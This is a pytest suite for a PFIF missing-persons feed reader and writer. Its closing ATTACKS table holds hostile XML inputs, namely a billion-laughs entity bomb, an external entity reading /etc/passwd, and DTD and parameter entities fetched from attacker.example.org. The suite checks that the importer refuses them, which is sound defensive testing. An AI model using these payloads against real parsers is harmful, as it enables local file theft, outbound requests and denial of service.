"""PFIF is read as it stands, written element by element as it was, and refused when it attacks."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring

from api.imports.errors import FileRefused
from api.imports.pfif import (
    NOTE_FIELDS,
    PERSON_FIELDS,
    PfifFeed,
    PfifNote,
    PfifPerson,
    is_found,
    moment,
    read_feed,
    read_records,
)
from api.imports.pfif_write import tombstone, write_feed

SAMPLES = sorted((Path(__file__).parent / "samples").glob("*.xml"))
NOW = datetime(2026, 11, 1, tzinfo=UTC)


def read(text: str | bytes) -> PfifFeed:
    return read_feed(io.BytesIO(text.encode() if isinstance(text, str) else text))


def written(feed: PfifFeed) -> bytes:
    parts: list[bytes] = []
    write_feed(feed, parts.append)
    return b"".join(parts)


def tree(element: Element) -> object:
    """Return an element as its name and its text, or its children where it has some."""
    if len(element):
        return element.tag, [tree(child) for child in element]
    return element.tag, element.text or ""


def person(inner: str, version: str = "1.4") -> PfifPerson:
    feed = read(f'<pfif xmlns="http://zesty.ca/pfif/{version}"><person>{inner}</person></pfif>')
    return feed.records[0]


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_what_is_written_equals_the_sample_element_by_element(path: Path) -> None:
    feed = read(path.read_bytes())
    assert tree(fromstring(written(feed))) == tree(fromstring(path.read_bytes()))
    assert read(written(feed)) == feed


def test_there_are_samples_of_every_field() -> None:
    text = "".join(path.read_text("utf-8") for path in SAMPLES)
    assert len(SAMPLES) >= 4
    assert all(f"<pfif:{name}>" in text for name in (*PERSON_FIELDS, *NOTE_FIELDS))


def test_persons_and_notes_are_typed() -> None:
    feed = read((Path(__file__).parent / "samples" / "several_persons.xml").read_bytes())
    assert [one.full_name for one in feed.persons] == ["সুনীতা মণ্ডল", "Rina Sheikh"]
    assert [one.person_record_id for one in feed.tombstones] == ["a.example.org/3"]
    assert [note.note_record_id for note in feed.notes] == ["b.example.org/9", "b.example.org/10"]
    assert feed.persons[1].notes[0].status == "is_note_author"
    assert is_found(feed.persons[1])
    assert not is_found(feed.persons[0])
    assert "Rina" not in repr(feed.persons[1]), "a log of it would tell a name"


def test_absent_and_empty_are_not_the_same() -> None:
    assert person("<full_name></full_name>").full_name == ""
    assert person("<full_name/>").full_name == ""
    assert person("<sex>female</sex>").full_name is None


@pytest.mark.parametrize("version", ["1.1", "1.2", "1.3"])
def test_older_versions_are_read_under_the_new_names(version: str) -> None:
    old = person(
        "<first_name>Maya</first_name><last_name>Tamang</last_name><home_zip>45300</home_zip>"
        "<other>description:\n    A mole.\n    Red kurta.</other><note><found>true</found></note>",
        version,
    )
    assert (old.given_name, old.family_name, old.home_postal_code) == ("Maya", "Tamang", "45300")
    assert old.description == "A mole.\nRed kurta."
    assert old.notes == (PfifNote(author_made_contact="true"),)


def test_other_labels_of_the_old_description_are_kept() -> None:
    text = "description: A mole.\nautomatic-photo: yes"
    assert person(f"<other>{text}</other>", "1.3").description == text


def test_the_newest_status_decides() -> None:
    notes = "".join(
        f"<note><source_date>2026-0{month}-01T00:00:00Z</source_date><status>{status}</status></note>"
        for month, status in ((5, "believed_missing"), (7, "believed_alive"), (6, "believed_dead"))
    )
    assert is_found(person(notes))
    assert not is_found(
        person(notes + "<note><source_date>2026-08-01</source_date><status>believed_missing</status></note>")
    )
    assert is_found(person(notes + "<note><status></status></note>"))


def test_elements_that_pfif_does_not_know_are_kept_and_written() -> None:
    one = person('<x:sighting xmlns:x="urn:else">by <b>the river</b></x:sighting><eyes>brown</eyes>')
    assert one.foreign == (("urn:else sighting", "by the river"), ("http://zesty.ca/pfif/1.4 eyes", "brown"))
    assert read(written(PfifFeed((one,)))).records == (one,)


def test_an_element_that_stands_twice_loses_nothing() -> None:
    assert person("<sex>female</sex><sex>male</sex>").sex == "female\nmale"


def test_records_in_an_atom_feed() -> None:
    text = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:p="http://zesty.ca/pfif/1.4"><title>x</title><entry>'
        "<p:person><p:person_record_id>a/1</p:person_record_id></p:person></entry></feed>"
    )
    assert [one.person_record_id for one in read(text).records] == ["a/1"]


def test_records_come_before_the_file_has_been_read_to_its_end() -> None:
    class Endless(io.RawIOBase):
        def __init__(self) -> None:
            self.head = b'<pfif xmlns="http://zesty.ca/pfif/1.4">'

        def read(self, _size: int = -1) -> bytes:
            head, self.head = self.head, b""
            return head + b"<person><sex>male</sex></person>" * 500

    records = read_records(Endless())  # type: ignore[arg-type]
    assert [next(records) for _ in range(5000)] == [PfifPerson(sex="male")] * 5000


def test_a_tombstone() -> None:
    gone = tombstone("a/1", source_date="2026-01-01T00:00:00Z", entry_date="2026-01-01T00:00:00Z",
                     expiry_date="2025-12-31T00:00:00Z")  # fmt: skip
    assert gone.is_tombstone
    assert read(written(PfifFeed((gone,)))).tombstones == (gone,)
    assert not person(
        "<person_record_id>a</person_record_id><source_date>2026-01-01T00:00:00Z</source_date>"
    ).is_tombstone
    assert not person("<expiry_date>2026-01-01T00:00:00Z</expiry_date><full_name>A</full_name>").is_tombstone


@pytest.mark.parametrize(
    ("text", "expired"),
    [("2026-10-31T23:59:59Z", True), ("2026-11-01T00:00:00Z", True), ("2026-11-02T00:00:00Z", False), ("soon", False)],
)
def test_what_has_expired(text: str, expired: bool) -> None:
    assert PfifPerson(expiry_date=text).has_expired(NOW) is expired


def test_moments() -> None:
    assert moment("2026-11-01T00:00:00Z") == moment("2026-11-01T05:30:00+05:30") == moment("2026-11-01T00:00:00") == NOW
    assert moment("yesterday") is moment(None) is moment("") is None
    assert moment("0001-01-01T00:00:00+05:30") is moment("9999-12-31T23:59:59-05:30") is None, "none in UTC"


BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = {
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY l0 "lol">{BOMB}]><p>&l9;</p>',
    "external entity": '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    "external type": '<!DOCTYPE p SYSTEM "http://attacker.example.org/p.dtd"><p/>',
    "parameter entity": '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://attacker.example.org/x">%x;]><p/>',
    "bare type": "<!DOCTYPE p><p/>",
    "undeclared entity": '<pfif xmlns="http://zesty.ca/pfif/1.4"><person><sex>&secret;</sex></person></pfif>',
    "cut off": '<pfif xmlns="http://zesty.ca/pfif/1.4"><person><full_name>Sunita',
    "deep": "<a>" * 5000,
    "long": f'<pfif xmlns="http://zesty.ca/pfif/1.4"><person><description>{"Sunita " * 2_500_000}</description>',
    "other XML": "<persons><person>Sunita</person></persons>",
    "no XML": "Sunita,12",
    "nothing": "",
    "other encoding": '<?xml version="1.0" encoding="x-unknown"?><p/>',
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_and_damage_are_refused_without_a_word_of_the_file(name: str) -> None:
    with pytest.raises(FileRefused) as refused:
        read(ATTACKS[name])
    for secret in ("Sunita", "passwd", "attacker", "lol", "secret"):
        assert secret not in str(refused.value)
